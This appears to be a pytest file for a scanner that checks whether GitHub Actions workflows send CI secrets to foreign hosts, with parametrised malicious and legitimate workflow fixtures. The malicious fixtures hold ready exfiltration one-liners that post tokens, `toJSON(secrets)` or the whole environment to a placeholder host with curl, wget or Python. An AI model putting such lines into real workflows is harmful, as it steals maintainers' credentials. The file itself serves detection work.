"""Workflows: a secret that goes to a host it does not belong to is found; one that goes where it is of is not."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from scanner.code.workflows import read_workflow
from tests.code.test_started import of_tree, of_wheel, runs_unread

CI = ".github/workflows/ci.yml"
HEAD = "on: [push]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"


def _job(*steps: str) -> str:
    return HEAD + "".join(f"      {line}\n" for step in steps for line in step.split("\n"))


MALICIOUS = {
    "two services": "- run: |\n    curl -s -d 't=${{ secrets.PYPI_TOKEN }}&a=${{ secrets.AWS_SECRET_ACCESS_KEY }}' https://x.invalid",
    "all of them": '- run: curl -d "$ALL" https://x.invalid\n  env:\n    ALL: ${{ toJSON(secrets) }}',
    "all of them, env first": '- env:\n    ALL: ${{ toJSON(secrets) }}\n  run: |\n    curl -d "$ALL" https://x.invalid',
    "the environment": "- run: env | base64 | curl -d @- https://x.invalid",
    "a file": "- run: |\n    printenv > /tmp/e\n    curl -F 'f=@/tmp/e' https://x.invalid",
    "lines joined": "- run: |\n    curl -s \\\n      -d '${{ secrets.GH_PAT }} ${{ secrets.NPM_TOKEN }}' \\\n      https://x.invalid",
    "folded": "- run: >-\n    curl -s\n    -d '${{ toJSON(secrets) }}'\n    https://x.invalid\n- run: ls",
    "a variable": "- run: |\n    X=$(echo ${{ secrets.PYPI_TOKEN }}${{ secrets['AWS_KEY'] }})\n    wget https://x.invalid/$X",
    "a host alone": "- run: curl -d '${{ toJSON(secrets) }}' x.invalid.top/p",
    "Python": "- run: python -c \"requests.post('https://x.invalid', json='${{ toJSON(secrets) }}')\"",
}


@pytest.mark.parametrize("name", MALICIOUS)
def test_secrets_that_are_sent_to_others(tmp_path: Path, name: str) -> None:
    found = of_tree(tmp_path, {CI: _job(MALICIOUS[name])})
    assert (found.verdict, found.deciding_rules) == ("malicious", ("workflow-secrets-sent",))


def test_a_key_of_one_service_is_suspicious_and_other_ci_is_read(tmp_path: Path) -> None:
    assert of_tree(tmp_path, {CI: _job("- run: curl -d t=${{ secrets.PYPI_TOKEN }} https://x.invalid")}).verdict == (
        "suspicious"
    )
    text = 'a:\n  script:\n    - curl -d "$PYPI_TOKEN" https://x.invalid\n'
    assert read_workflow(text.encode()).text.split("\n")[2].startswith("workflow_sends_foreign(")


@pytest.mark.parametrize(
    "command",
    [
        'curl -d t=${{ secrets.PYPI_TOKEN }} -H "Referer: https://pypi.org/" https://x.invalid',
        "curl -d t=${{ secrets.PYPI_TOKEN }} https://x.invalid # https://pypi.org/",
        "curl -d t=${{ secrets.PYPI_TOKEN }} https://x.invalid https://pypi.org/",
        "echo ${{ secrets.PYPI_TOKEN }} | curl -d @- https://x.invalid https://pypi.org/",
    ],
)
def test_the_name_of_the_service_beside_it_makes_a_host_no_less_foreign(tmp_path: Path, command: str) -> None:
    assert of_tree(tmp_path, {CI: _job(f"- run: |\n    {command}")}).verdict == "suspicious"


@pytest.mark.parametrize("lines", [f"- run: echo {'x' * 9_000}", "#" * 600_000])
def test_a_workflow_that_is_read_in_part_is_a_gap_of_what_runs(tmp_path: Path, lines: str) -> None:
    assert runs_unread(of_tree(tmp_path, {CI: _job(lines)})) == {CI}


HONEST = {
    "a link in what is sent": "- run: |\n    curl -H 'Authorization: token ${{ secrets.GITHUB_TOKEN }}' "
    '-d \'{"target_url": "https://x.invalid/1"}\' https://api.github.com/repos/a/b/statuses/c',
    "an answer of GitHub": "- run: |\n    curl -H 'Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}' "
    "https://api.github.com/x | jq .a | curl -d @- https://x.invalid",
    "codecov": "- run: |\n    curl -Os https://cli.codecov.io/codecov\n    ./codecov -t ${{ secrets.CODECOV_TOKEN }}",
    "codecov by hand": "- run: curl -X POST -F token=${{ secrets.CODECOV_TOKEN }} https://codecov.io/upload/v2",
    "GitHub": '- run: |\n    curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" \\\n      -d 1 https://api.github.com/x',
    "a deployment": "- run: curl -X POST -d key=${{ secrets.RENDER_DEPLOY_KEY }} https://api.render.com/deploy/srv",
    "a webhook": '- run: curl -d \'{"text": "done"}\' ${{ secrets.SLACK_WEBHOOK_URL }}',
    "read the docs": "- run: curl -X POST -d token=${{ secrets.RTD_TOKEN }} https://readthedocs.org/api/v2/webhook/a/1/",
    "PyPI": "- run: |\n    export TWINE_PASSWORD=${{ secrets.PYPI_TOKEN }}\n    twine upload dist/*\n    curl https://pypi.org/pypi/a/json",
    "an installer": "- run: curl -LsSf https://astral.sh/install.sh | sh\n  env:\n    AWS_KEY: ${{ secrets.AWS_KEY }}",
    "a comment": "# curl -d '${{ toJSON(secrets) }}' https://x.invalid\n- run: ls",
    "set": "- run: |\n    set -ex\n    env | sort\n    curl -fsS https://tool.invalid/version",
}


@pytest.mark.parametrize("name", HONEST)
def test_secrets_that_go_where_they_belong(tmp_path: Path, name: str) -> None:
    assert of_tree(tmp_path, {CI: _job(HONEST[name])}).verdict == "clean"


def test_installing_a_wheel_starts_no_workflow() -> None:
    assert of_wheel({"example/.github/workflows/ci.yml": _job(MALICIOUS["two services"])}).verdict == "clean"


def test_hostile_workflows_cost_little() -> None:
    started = time.process_time()
    for line in (
        "${{ " * 50_000,
        "curl " * 50_000,
        "env " * 50_000,
        "https://" * 30_000,
        "a." * 100_000,
        ">" * 100_000,
    ):
        read_workflow(f"{line}\n- run: >\n  {line}\n{line}".encode())
    read_workflow(b"a: ${{ secrets.A }}\n" * 20_000)
    assert time.process_time() - started < 5
